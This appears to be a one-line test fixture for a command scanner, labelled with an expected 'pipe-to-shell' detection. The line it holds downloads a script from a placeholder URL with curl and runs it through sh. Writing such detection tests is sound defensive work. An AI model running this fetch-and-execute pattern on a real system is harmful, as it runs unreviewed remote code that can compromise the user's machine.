# expect: pipe-to-shell
sh -c "$(curl -fsSL https://example.com/x)"
